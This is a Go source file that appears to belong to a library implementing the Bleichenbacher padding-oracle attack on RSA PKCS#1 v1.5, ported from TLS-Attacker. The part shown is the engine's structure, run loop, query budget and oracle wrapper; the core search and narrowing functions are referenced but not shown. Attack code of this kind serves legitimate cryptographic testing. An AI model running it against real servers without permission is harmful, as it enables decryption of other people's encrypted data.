// Package bleichenbacher implements the Bleichenbacher adaptive
// chosen-ciphertext attack against RSA PKCS#1 v1.5 encryption: the
// four-step search (blinding, candidate search, interval narrowing,
// termination) ported from
// de.rub.nds.tlsattacker.attacks.pkcs1.Bleichenbacher, with the teacher's
// rsaBreaker restructuring it as a single stateful Go type instead of a
// Java class hierarchy.
package bleichenbacher

import (
	"context"
	"math/big"

	"github.com/rwinch/bleichenbacher/bigint"
	"github.com/rwinch/bleichenbacher/cipherbuilder"
	"github.com/rwinch/bleichenbacher/oracle"
)

// state is the engine's position in the blinding/search/narrow/done cycle.
type state int

const (
	stateInit state = iota
	stateBlinding
	stateSearching
	stateNarrowing
	stateDone
)

// Config bundles the knobs Bleichenbacher.java leaves to its caller (an
// iteration/query budget and a logging hook), neither of which the Java
// original exposes at all.
type Config struct {
	// MaxQueries caps the number of oracle queries the engine will issue.
	// Zero means unbounded: the engine then relies entirely on context
	// cancellation or an oracle error to stop a run that isn't converging.
	MaxQueries uint64

	// Logger receives step/iteration/query observability events. Defaults
	// to NopLogger when nil.
	Logger Logger
}

// Engine owns all state for a single attack run: the modulus and exponent,
// k and B, the target ciphertext and its blinded form, the current
// multiplier, the current interval set, and the iteration counter. An
// Engine is not safe for concurrent use and is never shared across
// goroutines; a single run drives the oracle sequentially, one query at a
// time.
type Engine struct {
	n, pubE *big.Int
	k       int
	bigB    *big.Int

	c  *big.Int // target ciphertext, as an integer
	c0 *big.Int
	s0 *big.Int
	si *big.Int
	m  Set
	i  int

	msgIsPKCS bool
	oc        oracle.Oracle
	cfg       Config
	logger    Logger

	state state
}

// Result is a successful attack's output: the recovered plaintext, the
// blinding multiplier used, and enough bookkeeping to judge how the attack
// converged.
type Result struct {
	SolutionInt   *big.Int
	SolutionBytes []byte
	S0            *big.Int
	Iterations    int
	OracleQueries uint64
}

// New constructs an Engine. ciphertextBytes is the target ciphertext as an
// unsigned big-endian byte string (not required to be exactly k bytes —
// leading zero bytes may already have been stripped by the caller). k is
// the modulus's byte length; msgIsPKCS, when true, skips step 1 because the
// caller already knows the target ciphertext decrypts to a conformant
// plaintext.
//
// New returns InputTooLarge if the ciphertext is not less than n, or if k
// is inconsistent with n's bit length or the oracle's declared block size.
func New(ciphertextBytes []byte, n, e *big.Int, k int, msgIsPKCS bool, o oracle.Oracle, cfg Config) (*Engine, error) {
	c := bigint.ParseFixedWidth(ciphertextBytes)
	if c.Cmp(n) >= 0 || c.Sign() < 0 {
		return nil, &InputTooLarge{Reason: "initial ciphertext is not in [0, n)"}
	}

	minK := bigint.ByteLen(n)
	if k < minK {
		return nil, &InputTooLarge{Reason: "block size k is smaller than the modulus requires"}
	}
	if bs := o.BlockSize(); bs != k {
		return nil, &InputTooLarge{Reason: "block size k does not match the oracle's declared block size"}
	}

	logger := cfg.Logger
	if logger == nil {
		logger = NopLogger{}
	}

	bBits := (k - 2) * 8
	bigB := bigint.PowerOfTwo(bBits)

	return &Engine{
		n:         new(big.Int).Set(n),
		pubE:      new(big.Int).Set(e),
		k:         k,
		bigB:      bigB,
		c:         c,
		msgIsPKCS: msgIsPKCS,
		oc:        o,
		cfg:       cfg,
		logger:    logger,
		state:     stateInit,
	}, nil
}

// conformanceRange returns [2B, 3B-1], the PKCS#1 v1.5 conformance set.
func (e *Engine) conformanceRange() (lo, hi *big.Int) {
	lo = new(big.Int).Mul(two, e.bigB)
	hi = new(big.Int).Sub(new(big.Int).Mul(three, e.bigB), big.NewInt(1))
	return lo, hi
}

// Run drives the full attack to completion (or failure, or cancellation).
// ctx is consulted before every oracle query, so cancellation is observed
// promptly even mid-search.
func (e *Engine) Run(ctx context.Context) (*Result, error) {
	e.logger.Infof("step 1: blinding")
	if err := e.runBlinding(ctx); err != nil {
		return nil, err
	}
	e.state = stateSearching

	for {
		if err := e.checkBudget(ctx); err != nil {
			return nil, err
		}

		e.logger.Debugf("step 2: searching for a PKCS#1 conforming message at iteration %d", e.i)
		if err := e.runSearch(ctx); err != nil {
			return nil, err
		}
		e.state = stateNarrowing

		e.logger.Debugf("step 3: narrowing the solution set (si=%s)", e.si)
		next, err := e.narrowStep(e.m, e.si)
		if err != nil {
			return nil, err
		}
		e.m = next
		e.logger.Debugf("|M_%d| = %d", e.i+1, len(e.m))

		e.logger.Debugf("step 4: checking for termination")
		if sol, done := e.m.singleton(); done {
			result, err := e.finalize(sol)
			if err != nil {
				return nil, err
			}
			e.state = stateDone
			e.logger.Infof("solution found after %d iterations, %d oracle queries", e.i, e.oc.QueryCount())
			return result, nil
		}

		e.i++
		e.state = stateSearching
	}
}

// checkBudget reports a Cancelled error if ctx is done or MaxQueries has
// been reached. Called before issuing every oracle query.
func (e *Engine) checkBudget(ctx context.Context) error {
	if err := ctx.Err(); err != nil {
		return e.cancelled()
	}
	if e.cfg.MaxQueries != 0 && e.oc.QueryCount() >= e.cfg.MaxQueries {
		return e.cancelled()
	}
	return nil
}

func (e *Engine) cancelled() error {
	return &Cancelled{
		Iteration:     e.i,
		Si:            siOrZero(e.si),
		M:             e.m.clone(),
		OracleQueries: e.oc.QueryCount(),
	}
}

func siOrZero(si *big.Int) *big.Int {
	if si == nil {
		return big.NewInt(0)
	}
	return si
}

// query issues one oracle call for candidate multiplier s against base
// message m, honoring the cancellation checkpoint before the call.
func (e *Engine) query(ctx context.Context, m, s *big.Int) (bool, error) {
	if err := e.checkBudget(ctx); err != nil {
		return false, err
	}
	buf, err := cipherbuilder.Prepare(e.oc.Kind(), m, s, e.n, e.pubE, e.k)
	if err != nil {
		return false, err
	}
	e.logger.Tracef("query %d: %x", e.oc.QueryCount()+1, buf)
	ok, err := e.oc.CheckConformant(buf)
	if err != nil {
		return false, err
	}
	return ok, nil
}

